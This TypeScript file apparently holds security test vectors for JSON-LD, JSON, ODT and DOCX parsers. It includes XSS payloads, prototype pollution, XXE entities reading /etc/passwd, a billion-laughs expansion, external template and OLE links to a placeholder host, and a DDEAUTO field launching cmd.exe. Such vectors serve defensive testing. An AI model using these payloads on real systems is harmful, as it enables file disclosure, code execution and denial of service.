/** JSON, XML and office documents: what their parsers resolve, expand or follow when nobody stops them. */
import { group } from './vector.testing.js'

const jsonLds = group('json-ld', 'head', [
  ({ hit }) => ld(`{"@type":"NewsArticle","headline":"</script><script>${hit}</script>"}`),
  ({ hit }) =>
    ld(`{"@type":"NewsArticle","headline":"<img src=x onerror=${hit}>","author":{"name":"<svg onload=${hit}>"}}`),
  ({ away }) => ld(`{"@context":"${away}/context.jsonld","@type":"NewsArticle","headline":"Lock","image":"${away}"}`),
  () => ld(`{"__proto__":{"polluted":true},"@type":"NewsArticle","constructor":{"prototype":{"polluted":true}}}`),
  () => ld(`{"@graph":${'['.repeat(3000)}${']'.repeat(3000)}}`),
  () => ld(`{"@type":["NewsArticle",{"toString":1},null,7],"headline":{"@value":["a"]},"author":[[[[{"name":{}}]]]]}`),
  ({ hit }) =>
    ld(`{"@type":"NewsArticle","url":"javascript:${hit}","publisher":{"name":"=1+1"},"datePublished":"0;url=x"}`),
  ({ hit }) => ld(`{"@type":"NewsArticle","articleBody":"<script>${hit}</script>"}<!--<script>`),
])
function ld(json: string): string {
  return `<script type="application/ld+json">${json}</script>`
}

const jsons = group('pollution', 'json', [
  () => `"__proto__":{"polluted":true,"text":"x"}`,
  () => `"constructor":{"prototype":{"polluted":true}}`,
  () => `"title":{"__proto__":{"polluted":true},"name":"Lock"}`,
  () => `"title":{"name":{"toString":"x"}},"author":[{"name":"__proto__"},["constructor"]],"date":{}`,
  ({ hit }) => `"title":"<script>${hit}</script>","source":"<img src=x onerror=${hit}>","url":"javascript:${hit}"`,
  () => `"title":"\\u0000\\ud800\\u202e","title":"second of the same name","title ":7`,
  () => `"deep":${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`,
])

const DOCTYPE = '<!DOCTYPE office [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "boom">]>'
const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY a "ha">${'abcdefghij'
    .slice(1)
    .split('')
    .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghij'[index] ?? ''};`.repeat(10)}">`)
    .join('')}]>`

/** What stands before the root element, a line break, and what stands in the text. */
const odts = group('xml', 'odt', [
  () => `${DOCTYPE}\n<text:p>&x;</text:p>`,
  () => `${laughs('office')}\n<text:p>&j;</text:p>`,
  ({ away }) => `<!DOCTYPE office SYSTEM "${away}.dtd">\n<text:p>The lock.</text:p>`,
  ({ away }) =>
    `<?xml-stylesheet href="${away}"?>\n<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  ({ hit }) => `\n<text:p><script>${hit}</script><![CDATA[<img src=x onerror=${hit}>]]></text:p>`,
  ({ hit, away }) =>
    `\n<text:p><text:a xlink:href="javascript:${hit}">on</text:a><draw:image xlink:href="${away}"/><text:section><text:section-source xlink:href="${away}"/></text:section></text:p>`,
  ({ hit }) =>
    `\n<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:${hit}"/></office:event-listeners><text:p>x</text:p>`,
])

/** XML for the body of a document, after a line break its relationships. */
const docxs = group('office', 'docx', [
  ({ hit }) =>
    `<w:p><w:hyperlink r:id="h"><w:r><w:t>on</w:t></w:r></w:hyperlink></w:p>\n${rel('h', 'hyperlink', `javascript:${hit}`)}`,
  ({ away }) =>
    `<w:p><w:r><w:t>x</w:t></w:r></w:p>\n${rel('t', 'attachedTemplate', `${away}.dotm`)}${rel('f', 'frame', away)}`,
  ({ away }) => `<w:p><w:r><w:drawing><a:blip r:link="i"/></w:drawing></w:r></w:p>\n${rel('i', 'image', away)}`,
  ({ away }) => `<w:p>${field(`INCLUDETEXT "${away}"`)}${field('INCLUDEPICTURE "file:///etc/passwd"')}</w:p>\n`,
  ({ hit }) =>
    `<w:p>${field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ${hit}"`)}${field('MACROBUTTON run x')}</w:p>\n`,
  ({ away }) =>
    `<w:altChunk r:id="c"/><w:p><w:r><w:object><o:OLEObject r:id="c"/></w:object></w:r></w:p>\n${rel('c', 'aFChunk', away)}`,
  ({ hit }) =>
    `<w:p><w:r><w:t>&lt;img src=x onerror=${hit}&gt;&lt;/p&gt;&lt;script&gt;${hit}&lt;/script&gt;</w:t></w:r></w:p>\n`,
  ({ hit }) =>
    `<w:p><w:bookmarkStart w:name="&quot;&gt;&lt;img src=x onerror=${hit}&gt;"/><w:r><w:t>x</w:t></w:r></w:p>\n`,
  () => `${'<w:p><w:r><w:t>'.repeat(600)}deep${'</w:t></w:r></w:p>'.repeat(600)}\n`,
])
function rel(id: string, type: string, target: string): string {
  const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
  return `<Relationship Id="${id}" Type="${kind}" Target="${target}" TargetMode="External"/>`
}
function field(code: string): string {
  return `<w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}"><w:r><w:t>field</w:t></w:r></w:fldSimple>`
}

export const packed = [...jsonLds, ...jsons, ...odts, ...docxs]
